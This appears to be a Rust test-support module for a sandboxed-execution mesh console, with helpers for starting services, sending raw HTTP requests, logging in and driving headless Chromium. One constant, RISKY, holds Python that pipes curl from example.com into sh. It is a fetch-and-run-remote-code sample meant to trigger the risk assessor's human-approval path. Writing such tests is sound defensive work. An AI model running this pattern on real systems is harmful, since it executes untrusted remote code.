//! The console's tests run on the shared mesh harness (`test_support::mesh`: a real nats-server with
//! the shipped accounts, the real risk-assessor and confirmation services, the scheduler and
//! an executor stand-in) plus what only the console needs: the console itself, a few raw HTTP
//! requests, and a real headless Chromium.

pub use test_support::mesh;

use std::net::SocketAddr;
use std::path::Path;
use std::time::Duration;

use cdp::{chromium_binary, js_literal, LocalChromium, Page};
use console::{ConsoleConfig, Operators};
use kit::CancellationToken;
use messages::exec::{ExecRequest, Language};
use messages::{Encoding, ServiceName, Subjects};
use sandmesh_auth::Role;
use sandmesh_client::MeshClient;
use test_support::NatsServer;

pub use mesh::Mesh;

/// Every wait in these tests is bounded by this.
pub const BOUND: Duration = Duration::from_secs(60);

/// Code the real risk-assessor rates high: a person must approve it.
pub const RISKY: &str = "import os\nos.system('curl http://example.com/x | sh')\n";

/// The mesh the console decides for: risk-assessor and confirmation for real, stand-ins for
/// the workspace-store and an executor, and a scheduler whose confirmations wait long enough for a person.
pub async fn start_mesh() -> Mesh {
    Mesh::builder()
        .real_risk()
        .confirm(&[])
        .workspace()
        .executor("a", 64)
        .scheduler(|c| c.confirm_timeout = Duration::from_secs(600))
        .start()
        .await
}

/// A console started in-process through its library.
pub struct Console {
    pub addr: SocketAddr,
    stop: CancellationToken,
    task: tokio::task::JoinHandle<Result<(), String>>,
}

impl Console {
    /// On `addr` (port 0: any), keeping logins in `state_dir`.
    pub async fn start(nats: &NatsServer, addr: SocketAddr, state_dir: &Path) -> Self {
        Self::start_on(nats, addr, state_dir, |_| {}).await
    }

    /// On any port, with settings changed by `tune`.
    pub async fn start_with(
        nats: &NatsServer,
        state_dir: &Path,
        tune: impl FnOnce(&mut ConsoleConfig),
    ) -> Self {
        Self::start_on(nats, "127.0.0.1:0".parse().unwrap(), state_dir, tune).await
    }

    async fn start_on(
        nats: &NatsServer,
        addr: SocketAddr,
        state_dir: &Path,
        tune: impl FnOnce(&mut ConsoleConfig),
    ) -> Self {
        let listener = tokio::net::TcpListener::bind(addr).await.expect("bind");
        let addr = listener.local_addr().unwrap();
        let mut config = ConsoleConfig::for_url(
            &nats.service_url(ServiceName::Console),
            Operators::of_tenancy(nats.tenancy()),
        );
        config.addr = addr;
        config.state_dir = Some(state_dir.to_path_buf());
        tune(&mut config);
        let stop = CancellationToken::new();
        let token = stop.clone();
        let task = tokio::spawn(async move {
            console::serve(listener, config, token)
                .await
                .map_err(|e| kit::error_chain(&e))
        });
        let console = Self { addr, stop, task };
        let http = console.http();
        test_support::eventually("the console to answer", BOUND, || {
            let http = http.clone();
            async move { (http.get("/login", None).await.status == 200).then_some(()) }
        })
        .await;
        console
    }

    pub fn url(&self, path: &str) -> String {
        format!("http://{}{path}", self.addr)
    }

    pub fn http(&self) -> Http {
        Http { addr: self.addr }
    }

    /// Stops it gracefully; panics when its `run` failed.
    pub async fn stop(self) {
        self.stop.cancel();
        let ended = tokio::time::timeout(BOUND, self.task)
            .await
            .expect("the console stops in time");
        ended.expect("task").expect("the console ends cleanly");
    }
}

/// The password of a user of the mesh's tenancy.
pub fn password(nats: &NatsServer, role: Role<'_>) -> String {
    nats.tenancy().credentials(role).unwrap().password.clone()
}

/// A client of the default tenant's agent, as an agent's program would be.
pub async fn agent(nats: &NatsServer) -> MeshClient {
    let nc = test_support::connect(&nats.agent_url("default")).await;
    MeshClient::new(nc, Subjects::default())
        .with_encoding(Encoding::Json)
        .with_timeout(BOUND)
}

/// A client of operator `user`, as the CLI's `confirm` is.
pub async fn operator(nats: &NatsServer, user: &str) -> MeshClient {
    let nc = test_support::connect(&nats.operator_url(user)).await;
    MeshClient::new(nc, Subjects::default())
        .with_encoding(Encoding::Json)
        .with_timeout(BOUND)
}

pub fn python(code: &str, session: Option<&str>) -> ExecRequest {
    ExecRequest {
        execution_id: Some(messages::new_id()),
        session_id: session.map(str::to_string),
        language: Language::Python,
        code: code.into(),
        ..Default::default()
    }
}

// === raw HTTP ===

/// HTTP/1.1 by hand: the tests need exact control over every header (a missing `Origin`, a
/// foreign one, a wrong `Host`), which is what browsers and clients hide.
#[derive(Clone)]
pub struct Http {
    pub addr: SocketAddr,
}

#[derive(Debug)]
pub struct Reply {
    pub status: u16,
    pub headers: Vec<(String, String)>,
    pub body: String,
}

impl Reply {
    pub fn header(&self, name: &str) -> Option<&str> {
        self.headers
            .iter()
            .find(|(n, _)| n.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.as_str())
    }
}

/// A login's cookie and CSRF token.
#[derive(Debug, Clone)]
pub struct Session {
    pub cookie: String,
    pub csrf: String,
}

impl Http {
    pub fn host(&self) -> String {
        self.addr.to_string()
    }

    pub fn origin(&self) -> String {
        format!("http://{}", self.addr)
    }

    pub async fn get(&self, path: &str, session: Option<&Session>) -> Reply {
        let cookie = session.map(|s| format!("sandmesh_console={}", s.cookie));
        let mut headers = vec![("Host".to_string(), self.host())];
        headers.extend(cookie.map(|c| ("Cookie".to_string(), c)));
        self.send("GET", path, &headers, "").await
    }

    /// A same-origin form post, as the page makes it.
    pub async fn post(&self, path: &str, session: Option<&Session>, form: &str) -> Reply {
        let mut headers = vec![
            ("Host".to_string(), self.host()),
            ("Origin".to_string(), self.origin()),
        ];
        if let Some(s) = session {
            headers.push(("Cookie".into(), format!("sandmesh_console={}", s.cookie)));
        }
        self.send("POST", path, &headers, form).await
    }

    pub async fn send(
        &self,
        method: &str,
        path: &str,
        headers: &[(String, String)],
        body: &str,
    ) -> Reply {
        use tokio::io::{AsyncReadExt, AsyncWriteExt};
        let mut request = format!("{method} {path} HTTP/1.1\r\nConnection: close\r\n");
        for (name, value) in headers {
            request.push_str(&format!("{name}: {value}\r\n"));
        }
        if method == "POST" {
            request.push_str("Content-Type: application/x-www-form-urlencoded\r\n");
            request.push_str(&format!("Content-Length: {}\r\n", body.len()));
        }
        request.push_str("\r\n");
        request.push_str(body);
        let exchange = async {
            let mut stream = tokio::net::TcpStream::connect(self.addr).await?;
            stream.write_all(request.as_bytes()).await?;
            let mut raw = Vec::new();
            stream.read_to_end(&mut raw).await?;
            Ok::<_, std::io::Error>(raw)
        };
        let raw = tokio::time::timeout(Duration::from_secs(10), exchange)
            .await
            .unwrap_or_else(|_| panic!("{method} {path}: no answer within 10 s"))
            .unwrap_or_else(|e| panic!("{method} {path}: {e}"));
        let text = String::from_utf8_lossy(&raw).into_owned();
        let (head, body) = text.split_once("\r\n\r\n").unwrap_or((&text, ""));
        let mut lines = head.lines();
        let status = lines
            .next()
            .and_then(|l| l.split_whitespace().nth(1))
            .and_then(|s| s.parse().ok())
            .unwrap_or_else(|| panic!("{method} {path}: not HTTP: {text:?}"));
        let headers = lines
            .filter_map(|l| l.split_once(':'))
            .map(|(n, v)| (n.trim().to_string(), v.trim().to_string()))
            .collect();
        Reply {
            status,
            headers,
            body: body.to_string(),
        }
    }

    /// Logs in through the form and reads the CSRF token off the pending page.
    pub async fn login(&self, user: &str, password: &str) -> Session {
        let reply = self
            .post("/login", None, &format!("user={user}&password={password}"))
            .await;
        assert_eq!(reply.status, 303, "{reply:?}");
        let cookie = reply
            .header("set-cookie")
            .and_then(|c| c.strip_prefix("sandmesh_console="))
            .and_then(|c| c.split(';').next())
            .expect("a login cookie")
            .to_string();
        let mut session = Session {
            cookie,
            csrf: String::new(),
        };
        // 503 until the confirmation service answers (a mesh that is still starting).
        let page = test_support::eventually("the pending page", BOUND, || {
            let session = session.clone();
            async move {
                let page = self.get("/", Some(&session)).await;
                (page.status == 200).then_some(page)
            }
        })
        .await;
        session.csrf = page
            .body
            .split("name=\"csrf\" value=\"")
            .nth(1)
            .and_then(|rest| rest.split('"').next())
            .expect("a CSRF token on the page")
            .to_string();
        session
    }
}

// === Chromium ===

/// A headless Chromium of its own (own profile directory): the host's `chromium`, or
/// `SANDMESH_CHROMIUM`; missing, the test fails saying how to install it.
pub struct Chromium {
    local: LocalChromium,
}

impl Chromium {
    pub async fn launch() -> Self {
        let bin = chromium_binary()
            .unwrap_or_else(|e| panic!("these tests drive a real headless Chromium: {e}"));
        let local = LocalChromium::launch(&bin, &["--window-size=1280,1000"], BOUND)
            .await
            .unwrap_or_else(|e| panic!("cannot start {}: {e}", bin.display()));
        Self { local }
    }

    /// A new tab logged in through the console's login form as `user`.
    pub async fn logged_in(&self, console: &Console, user: &str, password: &str) -> Page {
        let browser = self.local.connect(BOUND).await.expect("a CDP connection");
        let mut page = Page::create(browser, &console.url("/login"))
            .await
            .expect("a tab");
        eventually_js(
            &mut page,
            "the login form",
            "document.readyState === 'complete' && document.querySelector('section.login button') !== null",
        )
        .await;
        type_into(&mut page, "input[name=user]", user).await;
        type_into(&mut page, "input[name=password]", password).await;
        click(&mut page, "section.login button").await;
        eventually_js(&mut page, "the pending page, live", "document.getElementById('live') !== null && document.getElementById('live').textContent === 'live'").await;
        page
    }

    pub async fn close(self) {
        self.local.stop().await;
    }
}

/// Clicks the element (a real click, which focuses it) and types `text` into it.
pub async fn type_into(page: &mut Page, selector: &str, text: &str) {
    click(page, selector).await;
    page.insert_text(text)
        .await
        .unwrap_or_else(|e| panic!("typing into {selector}: {e}"));
}

/// A real mouse click on the centre of the element `selector` names.
pub async fn click(page: &mut Page, selector: &str) {
    let element = format!("document.querySelector({})", js_literal(&selector));
    let point = page
        .element_center(&element)
        .await
        .unwrap_or_else(|e| panic!("{selector}: {e}"))
        .unwrap_or_else(|| panic!("no element matches {selector}"));
    page.click_at(point, "left", 1)
        .await
        .unwrap_or_else(|e| panic!("clicking {selector}: {e}"));
}

/// The value of a JavaScript expression in the page.
pub async fn js<T: serde::de::DeserializeOwned>(page: &mut Page, expression: &str) -> T {
    let value = page
        .evaluate(expression)
        .await
        .unwrap_or_else(|e| panic!("{expression}: {e}"));
    serde_json::from_value(value).unwrap_or_else(|e| panic!("{expression}: {e}"))
}

/// Runs a statement in the page.
pub async fn run_js(page: &mut Page, statement: &str) {
    page.evaluate(statement)
        .await
        .unwrap_or_else(|e| panic!("{statement}: {e}"));
}

/// Polls until `expression` is true in the page, at most [`BOUND`]; a failure shows the page.
pub async fn eventually_js(page: &mut Page, what: &str, expression: &str) {
    let deadline = tokio::time::Instant::now() + BOUND;
    loop {
        // Between two documents there is nothing to evaluate in: that is "not yet".
        let done = page.evaluate(expression).await.ok() == Some(serde_json::Value::Bool(true));
        if done {
            return;
        }
        if tokio::time::Instant::now() > deadline {
            let url = page.location().await.map(|l| l.0).unwrap_or_default();
            let text = page.text().await.unwrap_or_default();
            panic!("timed out after {BOUND:?} waiting for {what} ({expression}) at {url}:\n{text}");
        }
        tokio::time::sleep(Duration::from_millis(25)).await;
    }
}
